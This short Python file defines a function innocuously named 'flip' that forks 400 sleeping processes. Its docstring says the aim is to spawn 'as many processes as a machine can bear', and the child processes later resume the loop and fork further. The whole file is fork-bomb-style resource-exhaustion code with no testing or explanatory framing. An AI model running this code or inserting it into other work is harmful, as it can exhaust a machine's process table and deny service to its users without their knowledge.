"""As many processes as a machine can bear, if nobody stops it; 400 here."""
import os
import time


def flip(data):
    for _ in range(400):
        if os.fork() == 0:
            time.sleep(3600)
    time.sleep(3600)
